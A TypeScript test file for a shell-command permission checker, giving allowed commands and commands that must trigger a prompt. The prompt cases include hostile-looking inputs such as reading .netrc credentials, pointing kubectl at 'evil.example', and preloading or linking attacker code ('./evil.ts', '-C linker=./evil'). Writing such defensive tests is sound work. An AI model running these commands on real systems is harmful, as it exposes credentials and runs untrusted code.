import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { commandJudge } from './judge-command.ts'

type Expected = { readonly allow: readonly string[]; readonly ask: readonly string[] }

function assertVerdicts(rules: { readonly allow: readonly string[] }, expected: Expected): void {
  const judge = commandJudge(rules)
  for (const [verdict, commands] of Object.entries(expected))
    for (const command of commands) assert.equal(judge(command).verdict, verdict, command)
}

suite('what a program reads in its own way', () => {
  test('an option before a subcommand is judged, also if the program has no known options there', () => {
    assertVerdicts(
      { allow: ['kubectl top', 'kubectl config', 'pip', 'cmake', 'ruff', 'bun', 'unzip'] },
      {
        allow: [
          'kubectl top pod',
          'kubectl config view',
          'pip list',
          'cmake --build .',
          'ruff check .',
          'unzip -l a.zip',
        ],
        ask: [
          'kubectl top --kubeconfig evil.yaml pod',
          'kubectl config -s https://evil.example view',
          'pip --python ./evil list',
          'cmake -P evil.cmake --build .',
          'ruff --config evil.toml check .',
          'bun --preload ./evil.ts test',
          'unzip -o -d x -l a.zip',
        ],
      },
    )
  })

  test('the path of find -exec is no script, no number, and with a plus sign many paths', () => {
    assertVerdicts(
      { allow: ['find', 'sed', 'awk', 'jq', 'uniq', 'xxd', 'cat', 'echo', 'tar'] },
      {
        allow: [
          "find . -exec sed -n '1p' {} +",
          "find . -exec awk '{print $1}' {} \\;",
          'find . -exec uniq {} \\;',
          'find . -exec cat {} +',
          'find . -exec echo "file {}" \\;',
        ],
        ask: [
          'find w -exec sed -n {} a \\;',
          'find w -exec awk {} \\;',
          'find w -exec jq {} a \\;',
          'find w -exec uniq {} +',
          'find w -exec xxd {} +',
          'find host:x -exec tar tf {} \\;',
        ],
      },
    )
  })

  test('letters after an option without an attached value are options', () => {
    assertVerdicts(
      { allow: ['tree', 'kubectl rollout', 'gh auth', 'gh pr', 'gh run', 'helm'] },
      {
        allow: [
          "tree -L 2 -I 'a|b'",
          'tree -L2',
          'kubectl rollout status -w deploy/x',
          'gh run list -w ci',
          'helm list -A',
        ],
        ask: [
          'tree -Lo 2 package.json',
          'tree -L2o package.json',
          'tree -aIo x package.json',
          'kubectl rollout status -wshttps://evil.example deploy/x',
          'gh auth status -ta',
          'gh pr view -w 5',
          'helm list -Ax',
        ],
      },
    )
  })

  test('a word of a package manager or a linter that runs other programs needs a rule that names it', () => {
    assertVerdicts(
      { allow: ['yarn workspace', 'bun run', 'cargo clippy', 'brew info', 'brew'] },
      {
        allow: [
          'yarn workspace a test',
          'yarn workspace @a/b run test:unit',
          'bun run build',
          'cargo clippy -- -D warnings -Wclippy::pedantic',
          'brew info node@20',
        ],
        ask: [
          'yarn workspace a exec touch x',
          'yarn workspace a dlx evil',
          'yarn workspace a publish',
          'bun run touch x',
          'bun run evil.ts',
          'cargo clippy -- --emit=metadata=x',
          'cargo clippy -- -C linker=./evil',
          'cargo clippy -- @evil.txt',
          'brew info ./evil.rb',
          'brew deps evil/tap/x',
        ],
      },
    )
  })

  test('a package is no archive and no folder, also as a version, and a compiler writes no file that other programs read', () => {
    assertVerdicts(
      { allow: ['npm install', 'pip install', 'gcc'] },
      {
        allow: [
          'npm install a@1.2.0',
          'npm install @a/b@^2',
          'pip install a==1.0',
          'gcc -o app a.c',
          'gcc -o out/a.o a.c',
        ],
        ask: [
          'npm install a.tgz',
          'npm install a@.b',
          'npm install a@b.tgz',
          'pip install a.whl',
          'gcc -E -o Makefile a.c',
        ],
      },
    )
  })

  test('a folder is entered or created below the working directory: cd alone enters the home folder', () => {
    assertVerdicts(
      { allow: ['cd', 'cat', 'mkdir'] },
      {
        allow: ['cd src && cat a', 'mkdir -p a/b .github/workflows'],
        ask: ['cd; cat .netrc', 'cd && cat .netrc', 'mkdir ../a', 'mkdir /a', 'mkdir -p .git/hooks'],
      },
    )
  })
})
